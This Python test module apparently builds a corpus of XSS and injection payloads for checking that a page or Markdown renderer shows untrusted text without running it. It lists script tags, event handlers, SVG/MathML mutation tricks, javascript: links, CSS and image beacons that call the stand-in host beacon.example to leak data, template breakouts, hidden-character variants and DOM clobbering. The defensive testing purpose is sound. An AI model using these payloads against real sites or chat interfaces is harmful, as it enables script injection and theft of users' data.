"""Texts that want to be a program: what a page shows must show them, and do nothing they say.

Each has a canary for every way it could get out: a variable it would set, a dialog it would open, a
host it would call. Each begins with a word of its own, so that a test can also see that the text is
still there for whoever reads it. Up to ``len(BASE)`` they are the families below; beyond that the
same payloads in other clothes: quoted, in tables and links, half encoded, split by characters that
nobody sees. The same number gives the same payloads everywhere.
"""

from __future__ import annotations

import html
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Final
from urllib.parse import quote

__all__ = ["BASE", "CANARY", "HOST", "LOCAL_NAMES", "Payload", "payloads"]

CANARY: Final = "__pwned"
"""Of ``window``: set by whatever was executed."""
HOST: Final = "beacon.example"
"""Whatever was loaded was loaded from here."""

_JS: Final = f"window.{CANARY}=1;alert(1);fetch('//{HOST}/x')"
_FLAT: Final = f"window.{CANARY}=1"
_URL: Final = f"https://{HOST}/p"


@dataclass(frozen=True, slots=True, kw_only=True)
class Payload:
    family: str
    marker: str
    """A word that no other payload has, and that stays readable whatever is done to the rest."""
    text: str

    @property
    def line(self) -> str:
        """The same on one line: for memories, names and goals."""
        return " ".join(self.text.split())


# ── families: {js} code, {flat} code without quotation marks, {url} a remote address ──────────

_HANDLERS: Final = (  # noqa: SIM905 - thirty lines of names are no better
    "onerror onload onclick onmouseover onfocus onanimationstart ontransitionend ontoggle onbegin "
    "onend onpointerenter onpointerrawupdate onauxclick onbeforeinput oncut onpaste ondrag onwheel "
    "onscrollend onbeforematch onpageshow onhashchange onpopstate onmessage onunhandledrejection "
    "onsecuritypolicyviolation onslotchange oncontentvisibilityautostatechange onformdata onsubmit"
).split()

_SCRIPT: Final = (
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT>",
    "<script/x>{js}</script>",
    "<script\n>{js}</script\n>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    '<script src="{url}.js"></script>',
    "<script src=//beacon.example/s.js></script>",
    '<script type="module">import "{url}.js"</script>',
    '<script type="importmap">{{"imports":{{"a":"{url}.js"}}}}</script>',
    "</script><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</title><script>{js}</script>",
    "</style><script>{js}</script>",
    '"><script>{js}</script>',
    "'><script>{js}</script>",
    "<script>/*{js}*/{flat}//</script>",
    '<noscript><p title="</noscript><script>{flat}</script>">',
    "<template><script>{js}</script></template>",
    "<script>eval(atob('d2luZG93Ll9fcHduZWQ9MQ=='))</script>",
    "<iframe srcdoc='<script>parent.{canary}=1</script>'></iframe>",
    "<object data=javascript:{flat}></object>",
    "<embed src=javascript:{flat}>",
    "<frameset onload={flat}>",
    "<link rel=import href={url}>",
    "<link rel=stylesheet href={url}.css>",
    "<link rel=preload as=script href={url}.js>",
    "<link rel=prefetch href={url}>",
    "<link rel=dns-prefetch href=//beacon.example>",
    "<base href={url}/>",
    '<meta http-equiv="refresh" content="0;url={url}">',
    '<meta http-equiv="refresh" content="0;url=javascript:{flat}">',
    '<form action="{url}"><input type=submit autofocus></form>',
    '<form id=f></form><button form=f formaction="javascript:{flat}">go</button>',
    '<isindex type=image src=1 onerror="{flat}">',
)

_ELEMENTS: Final = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "video src=x",
    "audio src=x",
    "marquee",
    "select autofocus",
    "div tabindex=0 autofocus",
    "x contenteditable autofocus",
    "style",
)

_SVG: Final = (
    "<svg><script>{js}</script></svg>",
    "<svg><script href='data:text/javascript,{flat}'/></svg>",
    "<svg><animate onbegin={flat} attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:{flat}'><text y=20>go</text></a></svg>",
    "<svg><set attributeName=href to=javascript:{flat}></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>{flat}</script></svg>#x'/></svg>",
    "<svg><image href={url}.png /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{flat}</script>'></foreignObject></svg>",
    "<svg><style>@import '{url}.css'</style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror={flat}>">',
    "<svg><desc><title><img src=x onerror={flat}></title></desc></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror={flat}>">',
    "<math href='javascript:{flat}'>go</math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={flat}></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={flat}>",
    "<math><mi//xlink:href='data:x,<script>{flat}</script>'>",
    "<listing><img src=x onerror={flat}></listing>",
    "<xmp><img src=x onerror={flat}></xmp>",
    "<plaintext><img src=x onerror={flat}>",
    "<noembed><img src=x onerror={flat}></noembed>",
    "<select><template><img src=x onerror={flat}></template></select>",
    "<table><td><img src=x onerror={flat}></table>",
    "<p><svg><p><style><img title='</style><img src=x onerror={flat}>'>",
)

_SCHEMES: Final = (
    "javascript:{flat}",
    "JaVaScRiPt:{flat}",
    "javascript&colon;{flat}",
    "javascript&#58;{flat}",
    "java&#x09;script:{flat}",
    "&#106;avascript:{flat}",
    "\x01javascript:{flat}",
    "javascript://%0a{flat}",
    "vbscript:msgbox(1)",
    "data:text/html,<script>{flat}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload={flat}>",
    "blob:{url}",
    "file:///etc/passwd",
    "//beacon.example/p",
    "\\\\beacon.example\\p",
    "{url}?q=secret",
    "filesystem:{url}",
    "view-source:{url}",
    "jar:{url}!/x",
    "intent://beacon.example#Intent;scheme=https;end",
    "ws://beacon.example/",
)

_LINKS: Final = (
    "[go]({to})",
    "[go](<{to}>)",
    "<{to}>",
    "![a picture]({to})",
    "[go][r]\n\n[r]: {to}",
    "[![a picture]({to})]({to})",
)

_BEACONS: Final = (
    "![a]({url}.png)",
    "![a](//beacon.example/p.png)",
    "![a][r]\n\n[r]: {url}.png 'title'",
    '![a]({url}.png "onload={flat}")',
    "![a](<{url}.png>)",
    "<img src={url}.png>",
    "<img srcset='{url}.png 2x'>",
    "<picture><source srcset={url}.png><img></picture>",
    "<video poster={url}.png>",
    "<audio src={url}.mp3 autoplay>",
    "<track src={url}.vtt>",
    "<input type=image src={url}.png>",
    "<body background={url}.png>",
    "<table background={url}.png>",
    "<iframe src={url}></iframe>",
    "<portal src={url}></portal>",
    "<object data={url}></object>",
    "<a href=# ping={url}>go</a>",
    "<q cite={url}>quoted</q>",
    "{url}?conversation=everything",
    "www.beacon.example/p",
    "mailto:a@beacon.example?body=everything",
    "<https://beacon.example/auto>",
    "[^1]\n\n[^1]: ![a]({url}.png)",
)

_CSS: Final = (
    "<style>*{{background:url({url}.png)}}</style>",
    "<style>@import url({url}.css);</style>",
    "<style>@font-face{{font-family:x;src:url({url}.woff)}}*{{font-family:x}}</style>",
    "<style>input[value^=a]{{background:url({url}?a)}}</style>",
    "<p style='background:url({url}.png)'>p</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>covers everything</p>",
    "<p style='width:expression({flat})'>p</p>",
    "<p style='-moz-binding:url({url}.xml)'>p</p>",
    "<div style='behavior:url({url}.htc)'>p</div>",
    "<link rel=stylesheet href='data:text/css,*{{background:url({url}.png)}}'>",
)

_BREAKOUTS: Final = (
    "--><script>{js}</script><!--",
    "<!--><img src=x onerror={flat}>-->",
    "<!-- <img src=x onerror={flat}> -->",
    "<!--[if gte IE 4]><script>{js}</script><![endif]-->",
    "<![CDATA[<script>{js}</script>]]>",
    "<?xml version='1.0'?><?xml-stylesheet href='{url}.xsl'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM '{url}'>]><x>&e;</x>",
    "]]></script><script>{js}</script>",
    '{{"a":"</script><script>{flat}</script>"}}',
    "';{js}//",
    '";{js}//',
    "`;{js}//",
    "\\';{js}//",
    "\u2028{js}\u2029",
    "${{{flat}}}",
    "{{{{constructor.constructor('{flat}')()}}}}",
    "{{{{{flat}}}}}",
    "#{{{flat}}}",
    "<%= {flat} %>",
    "[[${{{flat}}}]]",
    "{{% raw %}}<script>{flat}</script>{{% endraw %}}",
    "__proto__[{canary}]=1",
    "constructor.prototype.{canary}=1",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{flat}&amp;lt;/script&amp;gt;",
    "%3Cscript%3E{flat}%3C/script%3E",
    "\\u003cscript\\u003e{flat}\\u003c/script\\u003e",
    "+ADw-script+AD4-{flat}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{flat}\uff1c/script\uff1e",
    "```html\n<script>{js}</script>\n```",
    "```<img src=x onerror={flat}>\ncode\n```",
    '```js onload={flat} class="x\n{js}\n```',
    "`<img src=x onerror={flat}>`",
    "| a | <img src=x onerror={flat}> |\n|---|---|\n| {url} | ![b]({url}.png) |",
    "- [ ] <input onfocus={flat} autofocus>",
    "<!-- hf id=x trust=user src=s#<img/src=x/onerror={flat}> -->",
)

_UNSEEN: Final = (
    "\u202e<script>{js}</script>\u202c",
    "\u2066<img src=x onerror={flat}>\u2069",
    "<scr\u200bipt>{js}</scr\u200bipt>",
    "<\u200dimg src=x onerror={flat}>",
    "<img\u00a0src=x\u00a0onerror={flat}>",
    "<img\u3000src=x onerror={flat}>",
    "<img/\u000csrc=x\u000conerror={flat}>",
    "<\ufeffscript>{js}</script>",
    "\U000e003c\U000e0073\U000e0063\U000e0072\U000e0069\U000e0070\U000e0074\U000e003e{js}",
    "<ſcript>{js}</ſcript>",
    "<İmg src=x onerror={flat}>",
    "\x1b]8;;{url}\x07go\x1b]8;;\x07",
    "\x1b[31m<script>{js}</script>\x1b[0m",
    "\x1b]52;c;d2luZG93\x07",
    "\x9b31m{flat}",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308 <img src=x onerror={flat}>",
    "中文<img src=x onerror={flat}>中文",
    "[点击](javascript:{flat})",
    "【图】![图]({url}.png)",
)

_CLOBBERING: Final = (
    "<img name=body>",
    "<form id=document><input name=cookie></form>",
    "<a id=api></a><a id=api name=token href={url}>",
    "<img id=main><img id=main name=children>",
    "<form name=location><input id=href value={url}></form>",
    "<input id=attributes><input id=innerHTML>",
    "<iframe name=holdfast src={url}></iframe>",
    "<p id=__proto__>p</p>",
    "<p data-test=send data-line=1 class=dialog>p</p>",
    "<button data-test=undo autofocus>Undo everything</button>",
    "<x-hidden is=holdfast onconnected={flat}></x-hidden>",
    "<div slot=x><template shadowrootmode=open><script>{flat}</script></template></div>",
)


def _handlers() -> Iterator[str]:
    for number, handler in enumerate(_HANDLERS):
        element = _ELEMENTS[number % len(_ELEMENTS)]
        quoting = ("{name}={flat}", '{name}="{js}"', "{name} = '{flat}'", "{name}\n=\n{flat}")
        shape = quoting[number % len(quoting)].replace("{name}", handler)
        yield f"<{element} {shape}>"


def _links() -> Iterator[str]:
    for number, scheme in enumerate(_SCHEMES):
        yield _LINKS[number % len(_LINKS)].replace("{to}", scheme)
        yield _LINKS[(number + 3) % len(_LINKS)].replace("{to}", scheme)


_FAMILIES: Final[tuple[tuple[str, tuple[str, ...]], ...]] = (
    ("script", _SCRIPT),
    ("handler", tuple(_handlers())),
    ("svg", _SVG),
    ("link", tuple(_links())),
    ("beacon", _BEACONS),
    ("css", _CSS),
    ("breakout", _BREAKOUTS),
    ("unseen", _UNSEEN),
    ("clobbering", _CLOBBERING),
)


def _filled(shape: str) -> str:
    return shape.format(js=_JS, flat=_FLAT, url=_URL, canary=CANARY)


BASE: Final[tuple[tuple[str, str], ...]] = tuple(
    (family, _filled(shape)) for family, shapes in _FAMILIES for shape in shapes
)

# ── other clothes ───────────────────────────────────────────────────────────────────────────

_CLOTHES: Final[tuple[Callable[[str, random.Random], str], ...]] = (
    lambda text, _: f"> {text}",
    lambda text, _: f"1. {text}",
    lambda text, _: f"### {text}",
    lambda text, _: f"**{text}** ~~{text}~~",
    lambda text, _: f"[{text}](https://{HOST}/t)",
    lambda text, _: f"![{text}](https://{HOST}/t.png)",
    lambda text, _: f'[go](https://{HOST}/t "{text}")',
    lambda text, _: f"| {text} |\n|---|\n| {text} |",
    lambda text, _: html.escape(text),
    lambda text, _: html.unescape(html.escape(text)) + html.escape(text),
    lambda text, _: quote(text),
    lambda text, _: f"<div>{text}",
    lambda text, _: f"<p title='{text}'>",
    lambda text, _: f'<a href="{text}">go</a>',
    lambda text, _: f"<textarea>{text}",
    lambda text, _: f"<title>{text}</title>",
    lambda text, _: f"`{text}",
    lambda text, _: f"</p></li></div></article></main>{text}",
    lambda text, chance: "".join(chance.choice((one.lower(), one.upper())) for one in text),
    lambda text, chance: _sprinkled(text, "\u200b", chance),
    lambda text, chance: _sprinkled(text, "\x00", chance),
    lambda text, chance: _sprinkled(text, "\t", chance),
    lambda text, chance: _sprinkled(text, "\u202e", chance),
)


def _sprinkled(text: str, what: str, chance: random.Random) -> str:
    at = chance.randrange(len(text) + 1)
    return text[:at] + what + text[at:]


def _texts(count: int) -> Iterator[tuple[str, str]]:
    yield from BASE[:count]
    chance = random.Random("payloads")
    seen = {text for _, text in BASE}
    while len(seen) < count:
        family, text = chance.choice(BASE)
        for dress in chance.sample(_CLOTHES, chance.randint(1, 2)):
            text = dress(text, chance)
        if text not in seen:
            seen.add(text)
            yield family, text


def payloads(count: int = len(BASE)) -> list[Payload]:
    """So many distinct ones; every family is there from ``len(BASE)`` on."""
    return [
        Payload(family=family, marker=f"zq{number:04d}zq", text=_placed(number, text))
        for number, (family, text) in enumerate(_texts(count))
    ]


def _placed(number: int, text: str) -> str:
    """Behind its word, every second one as a block of its own: Markdown reads those otherwise."""
    return f"zq{number:04d}zq" + ("\n\n" if number % 2 else " ") + text


LOCAL_NAMES: Final = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "innerHTML",
    "document",
    "null",
    "undefined",
    "NaN",
    "javascript",
    "script",
)
"""Names that mean something to a program: for sessions, entities and topics."""
